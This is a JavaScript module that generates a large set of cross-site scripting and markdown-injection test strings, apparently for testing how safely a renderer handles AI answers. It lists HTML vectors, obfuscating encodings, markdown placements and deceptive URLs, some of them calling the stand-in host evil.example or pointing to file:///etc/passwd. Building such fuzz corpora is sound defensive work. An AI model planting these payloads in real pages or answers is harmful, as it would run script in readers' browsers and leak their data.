// Texts that try to become something else: vectors × the ways to write them. `MARK` is what runs if one succeeds.
export const MARK = 'ran()';
const evil = 'https://evil.example';

// What would run or fetch, as HTML. Short, so that most fit into a name of sixty characters.
const vectors = [
  `<script>${MARK}</script>`,
  `<img src=x onerror=${MARK}>`,
  `<img src=${evil}/p.gif>`,
  `<svg onload=${MARK}>`,
  `<svg/onload=${MARK}>`,
  `<svg><script>${MARK}</script>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,x"/>`,
  `<math><mtext><mglyph><style><img src onerror=${MARK}>`,
  `<iframe srcdoc="<script>${MARK}</script>">`,
  `<iframe src=javascript:${MARK}>`,
  `<iframe src=${evil}>`,
  `<object data=javascript:${MARK}>`,
  `<object data=${evil}/x.swf>`,
  `<embed src=javascript:${MARK}>`,
  `<a href=javascript:${MARK}>x</a>`,
  `<a href=x ping=${evil}>x</a>`,
  `<form action=javascript:${MARK}><button>x`,
  `<button formaction=javascript:${MARK}>x`,
  `<input autofocus onfocus=${MARK}>`,
  `<select autofocus onfocus=${MARK}>`,
  `<textarea autofocus onfocus=${MARK}>`,
  `<body onload=${MARK}>`,
  `<body background=${evil}/b.png>`,
  `<details open ontoggle=${MARK}>`,
  `<video src=x onerror=${MARK}>`,
  `<video poster=${evil}/p.png>`,
  `<audio src=x onerror=${MARK}>`,
  `<marquee onstart=${MARK}>`,
  `<style>@import '${evil}/x.css'</style>`,
  `<style>*{background:url(${evil}/u)}</style>`,
  `<p style="background:url(${evil}/s)">`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<link rel=dns-prefetch href=${evil}>`,
  `<link rel=preload as=image href=${evil}/l>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href=${evil}/>`,
  `<template><script>${MARK}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<div popover id=p onbeforetoggle=${MARK}>`,
  `<xss onanimationstart=${MARK} style=animation:x>`,
  `"><script>${MARK}</script>`,
  `'><img src=x onerror=${MARK}>`,
  `"onmouseover=${MARK} x="`,
  `</title><script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `--><script>${MARK}</script><!--`,
  `]]><script>${MARK}</script>`,
  `javascript:${MARK}`,
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
];

// Ways to write a vector, so that another reader may see it where this one does not.
const spellings = {
  plain: (text) => text,
  capitals: (text) => text.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  entities: (text) => text.replace(/[<>"']/g, (c) => `&#${c.charCodeAt(0)};`),
  'hexadecimal entities': (text) => text.replace(/[<>"']/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`),
  'named entities': (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
  'entities of entities': (text) => text.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;'),
  percent: (text) => text.replace(/[<>"'() ]/g, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`),
  'script escapes': (text) => text.replace(/[<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  'full width': (text) => text.replace(/[<>]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  'zero width': (text) => text.replace(/<(\w)/g, '<\u200b$1'),
  doubled: (text) => text.replace(/<(\w+)/g, '<$1<$1'),
  tabs: (text) => text.replace(/ /g, '\t'),
};

// Where a vector stands in an answer.
const places = {
  'in bold': (text) => `**${text}**`,
  'as a link’s text': (text) => `[${text}](https://example.com)`,
  'as a link’s address': (text) => `[x](<${text.replace(/[<>\n]/g, '')}>)`,
  'as a link’s title': (text) => `[x](https://example.com "${text.replace(/"/g, '\\"')}")`,
  'as a picture': (text) => `![${text}](${evil}/${encodeURIComponent(text)})`,
  'in a table': (text) => `| a |\n|---|\n| ${text.replace(/\|/g, '\\|')} |`,
  'in a heading': (text) => `# ${text}`,
  'in a list': (text) => `- ${text}`,
  'in a quotation': (text) => `> ${text}`,
  'in code': (text) => `\`${text}\``,
  'in a block of code': (text) => `\`\`\`html\n${text}\n\`\`\``,
  'as a block’s language': (text) => `\`\`\`${text.replace(/`/g, '')}\nx\n\`\`\``,
  'in a formula': (text) => `$\\text{${text.replace(/[$\\]/g, '')}}$`,
  'in a footnote': (text) => `x[^1]\n\n[^1]: ${text}`,
};

// Addresses that lead somewhere else than they seem to, or run.
const addresses = [
  `javascript:${MARK}`, `JaVaScRiPt:${MARK}`, `java\tscript:${MARK}`, `\u0001javascript:${MARK}`, `javascript&colon;${MARK}`,
  `&#106;avascript:${MARK}`, `javascript://example.com/%0A${MARK}`, `vbscript:${MARK}`, `data:text/html,<script>${MARK}</script>`,
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==', `//evil.example/x`, `https:evil.example`, `https:/\\evil.example`,
  'https://good.example@evil.example/', 'file:///etc/passwd', 'blob:https://evil.example/1', 'view-source:https://evil.example',
].flatMap((address) => [`[x](${address})`, `<${address}>`, `![x](${address})`, `[x]: ${address}\n\n[x]`]);

const spelled = vectors.flatMap((vector) => Object.values(spellings).map((spell) => spell(vector)));
const placed = vectors.flatMap((vector, nth) => Object.values(places).filter((_, at) => (at + nth) % 3 === 0).map((place) => place(vector)));

/** Every text once: for answers, which are long. */
export const texts = [...new Set([...spelled, ...placed, ...addresses])];

/** Those that fit into a name of so many characters, on one line. */
export const names = (most) => [...new Set(spelled.filter((text) => text.length <= most && !/[\n\t]/.test(text)))];
